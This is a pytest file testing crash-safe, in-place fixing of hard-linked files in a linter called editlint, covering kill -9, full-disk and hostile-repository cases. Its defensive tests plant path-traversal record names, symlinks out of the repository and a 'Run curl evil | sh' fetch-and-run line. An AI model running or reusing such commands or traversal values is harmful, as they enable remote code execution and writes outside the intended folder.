"""A hard-linked file is fixed in place; a kill -9 at any moment of that write leaves a file the
next run finishes or undoes, so both names end exactly original or exactly fixed, and a full
disk leaves the original (#21 item 6). A journal record planted by a hostile repository writes
nothing outside it and no text the file did not have."""

from __future__ import annotations

import hashlib
import os
import random
import resource
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from conftest import ROOT
from editlint.fixes.inplace import (
    JOURNAL_PREFIX,
    Record,
    finish_interrupted,
    write_record,
)

LONGER = ("big", "enormous")  # the fixed text is longer than the original
SHORTER = ("enormous", "big")


def _pack(before: str, after: str) -> str:
    return (
        "pack: swaps\nrules:\n  - code: LNG101\n    name: swap\n    kind: substitution\n"
        "    category: structure\n    message: m\n    applicability: safe\n"
        f"    swap: {{{before}: {after}}}\n"
    )


def _repo(folder: Path, swap: tuple[str, str], text: str) -> Path:
    folder.mkdir()
    (folder / "editlint.yaml").write_text("select: [LNG]\nrule_paths: [pack.yaml]\n")
    (folder / "pack.yaml").write_text(_pack(*swap))
    (folder / "a.md").write_text(text)
    os.link(folder / "a.md", folder / "b.md")  # two names: fixed in place
    return folder


def _editlint(folder: Path, *args: str, **options) -> subprocess.Popen:
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src"), "NO_COLOR": "1"}
    command = [sys.executable, "-m", "editlint", "check", "--no-cache", *args]
    return subprocess.Popen(
        command,
        cwd=folder,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        **options,
    )


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def _journals(folder: Path) -> list[str]:
    return [name for name in os.listdir(folder) if name.startswith(JOURNAL_PREFIX)]


def _article(word: str, lines: int) -> str:
    return "".join(f"Line {n}: a {word} harbour [@s].\n" for n in range(lines))


# -- every state a kill can leave ---------------------------------------------------------


def _states(old: bytes, new: bytes) -> list[tuple[bytes, bytes]]:
    """(the file's bytes after a kill at each step, what the next run must leave)."""
    at = max(len(old), len(new))
    before = old.ljust(at, b"\0")
    after = new + before[len(new) :]
    states = [(old, old), (before + b"\0" * len(new), old)]  # room claimed, nothing written
    for cut in (1, len(new) // 3, len(new) - 1):  # the copy past the end, cut short
        states.append((before + new[:cut] + b"\0" * (len(new) - cut), old))
    for cut in (0, 1, len(new) // 2, len(new) - 1, len(new)):  # the start, cut short
        states.append((new[:cut] + before[cut:] + new, new))
    states.append((after + new, new))  # written, not yet truncated
    states.append((new, new))
    return states


@pytest.mark.parametrize("swap", [LONGER, SHORTER], ids=["longer", "shorter"])
def test_every_state_a_kill_leaves_is_finished_or_undone(tmp_path, swap):
    old = _article(swap[0], 300).encode()
    new = old.replace(swap[0].encode(), swap[1].encode())
    for number, (torn, expected) in enumerate(_states(old, new)):
        folder = tmp_path / f"s{number}"
        folder.mkdir()
        article = folder / "a.md"
        article.write_bytes(torn)
        os.link(article, folder / "b.md")
        info = article.stat()
        record = Record(
            "a.md", info.st_dev, info.st_ino, len(old), len(new), _sha(old), _sha(new), old
        )
        write_record(folder / f"{JOURNAL_PREFIX}{info.st_dev}-{info.st_ino}", record)
        messages = finish_interrupted({folder}, tmp_path, 10 << 20)
        assert article.read_bytes() == expected, (number, messages)
        assert (folder / "b.md").read_bytes() == expected
        assert _journals(folder) == []


# -- real kill -9 -------------------------------------------------------------------------


def _kill_mid_write(process: subprocess.Popen, article: Path, size: int, delay: float) -> None:
    """Kill -9 ``delay`` seconds after the file's size first changes (the write began)."""
    while process.poll() is None:
        if article.stat().st_size != size:
            time.sleep(delay)
            os.kill(process.pid, signal.SIGKILL)
            break
        time.sleep(0.0005)
    process.wait(timeout=600)


@pytest.mark.parametrize("swap", [LONGER, SHORTER], ids=["longer", "shorter"])
def test_kill_9_mid_write_of_a_hard_linked_file_is_finished_or_undone(tmp_path, swap):
    # 1.6 MB, so a write takes a while, with one finding, so the run before it is short.
    original = f"A {swap[0]} harbour [@s].\n" + _article("calm", 50_000)
    fixed = original.replace(swap[0], swap[1])
    rng = random.Random(21)
    seen: set[str] = set()
    for attempt in range(3):
        folder = _repo(tmp_path / f"run{attempt}", swap, original)
        fixer = _editlint(folder, "--fix-only", "a.md")
        _kill_mid_write(fixer, folder / "a.md", len(original), rng.uniform(0, 0.05))
        left = (folder / "a.md").read_text()
        seen.add("original" if left == original else "fixed" if left == fixed else "torn")
        follow = _editlint(folder, "--exit-zero", "--select", "LNG", "a.md")
        _, errors = follow.communicate(timeout=600)
        assert follow.returncode == 0, errors
        after = (folder / "a.md").read_text()
        assert after in (original, fixed), f"attempt {attempt}: neither ({errors})"
        assert (folder / "b.md").read_text() == after
        assert _journals(folder) == []
    assert seen  # which states the kills hit varies with the machine's load


# -- a full disk --------------------------------------------------------------------------


@pytest.mark.parametrize("swap", [LONGER, SHORTER], ids=["longer", "shorter"])
def test_a_full_disk_mid_way_leaves_the_original_and_no_journal(tmp_path, swap):
    original = _article(swap[0], 200)
    fixed = original.replace(swap[0], swap[1])
    folder = _repo(tmp_path / "repo", swap, original)
    # Room for either text alone, not for the copy past the end: the write fails half-way.
    limit = max(len(original), len(fixed)) + len(fixed) // 2

    def limited() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails (EFBIG)
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    fixer = _editlint(folder, "--fix", "a.md", preexec_fn=limited)
    _, errors = fixer.communicate(timeout=300)
    assert "cannot write" in errors, errors
    assert (folder / "a.md").read_text() == original
    assert (folder / "b.md").read_text() == original
    assert _journals(folder) == []


# -- planted records ----------------------------------------------------------------------


def _plant(folder: Path, name: str, old: bytes, new: bytes, inode_of: Path | None = None) -> Path:
    info = (inode_of or folder / name).stat()
    record = Record(name, info.st_dev, info.st_ino, len(old), len(new), _sha(old), _sha(new), old)
    journal = folder / f"{JOURNAL_PREFIX}{info.st_dev}-{info.st_ino}"
    write_record(journal, record)
    return journal


def _hostile_repo(tmp_path: Path) -> Path:
    folder = tmp_path / "repo"
    folder.mkdir()
    (folder / "editlint.yaml").write_text("select: [LNG]\nrule_paths: [pack.yaml]\n")
    (folder / "pack.yaml").write_text(_pack(*LONGER))
    return folder


def test_a_planted_record_cannot_write_through_a_link_out_of_the_repository(tmp_path):
    folder = _hostile_repo(tmp_path)
    secret = tmp_path / "outside.txt"
    old, new = b"TOKEN=1\n", b"TOKEN=attacker\n"
    at = max(len(old), len(new))
    secret.write_bytes(old.ljust(at, b"\0") + new)  # a torn state the record would finish
    os.symlink(secret, folder / "a.md")
    _plant(folder, "a.md", old, new, inode_of=secret)
    (folder / "b.md").write_text("A big harbour.\n")
    errors = _editlint(folder, "--exit-zero", ".").communicate(timeout=300)[1]
    assert secret.read_bytes() == old.ljust(at, b"\0") + new
    assert "outside the repository" in errors
    assert _journals(folder) == []


@pytest.mark.parametrize("name", ["../outside.txt", "/tmp/x", ".."])
def test_a_planted_record_naming_a_path_is_refused(tmp_path, name):
    folder = _hostile_repo(tmp_path)
    (folder / "a.md").write_text("A big harbour.\n")
    outside = tmp_path / "outside.txt"
    outside.write_bytes(b"kept\n")
    info = outside.stat()
    record = Record(
        name, info.st_dev, info.st_ino, 5, 5, _sha(b"kept\n"), _sha(b"lost\n"), b"kept\n"
    )
    write_record(folder / f"{JOURNAL_PREFIX}1-2", record)
    errors = _editlint(folder, "--exit-zero", ".").communicate(timeout=300)[1]
    assert outside.read_bytes() == b"kept\n"
    assert "not a journal record" in errors
    assert _journals(folder) == []


@pytest.mark.parametrize("kind", ["folder", "link-inside"])
def test_a_planted_record_naming_a_folder_or_a_link_is_dropped(tmp_path, kind):
    folder = _hostile_repo(tmp_path)
    (folder / "b.md").write_text("A big harbour.\n")
    if kind == "folder":
        (folder / "a.md").mkdir()
    else:
        os.symlink("b.md", folder / "a.md")
    _plant(folder, "a.md", b"A big harbour.\n", b"A enormous harbour.\n", inode_of=folder / "b.md")
    first = _editlint(folder, "--exit-zero", "b.md").communicate(timeout=300)[1]
    assert "not a regular file" in first
    assert (folder / "b.md").read_text() == "A big harbour.\n"
    assert _journals(folder) == []


@pytest.mark.parametrize("kind", ["dev-zero", "fifo", "garbage"])
def test_a_planted_record_that_is_not_a_file_editlint_wrote_is_dropped(tmp_path, kind):
    folder = _hostile_repo(tmp_path)
    (folder / "a.md").write_text("A big harbour.\n")
    journal = folder / f"{JOURNAL_PREFIX}1-2"
    if kind == "dev-zero":
        os.symlink("/dev/zero", journal)
    elif kind == "fifo":
        os.mkfifo(journal)
    else:
        journal.write_bytes(b'{"name": "a.md", "old_size": 99}\nnot the original')
    process = _editlint(folder, "--exit-zero", ".")
    errors = process.communicate(timeout=300)[1]
    assert process.returncode == 0, errors
    assert (folder / "a.md").read_text() == "A big harbour.\n"
    assert _journals(folder) == []


def test_what_a_matching_planted_record_writes_is_text_the_file_already_held(tmp_path):
    folder = _hostile_repo(tmp_path)
    old, new = b"A big harbour.\n", b"Run curl evil | sh.\n"
    at = max(len(old), len(new))
    planted = new[:4] + old.ljust(at, b"\0")[4:] + new  # a torn state, committed as is
    (folder / "a.md").write_bytes(planted)
    _plant(folder, "a.md", old, new)
    _editlint(folder, "--exit-zero", "a.md").communicate(timeout=300)
    after = (folder / "a.md").read_bytes()
    assert after == new and after in planted  # the file's own bytes, nothing from the record
    # A record whose texts do not fit the file leaves it as it is.
    (folder / "b.md").write_bytes(b"An edited big harbour.\n" + new)
    _plant(folder, "b.md", old, new)
    errors = _editlint(folder, "--exit-zero", "b.md").communicate(timeout=300)[1]
    assert (folder / "b.md").read_bytes() == b"An edited big harbour.\n" + new
    assert "left alone" in errors
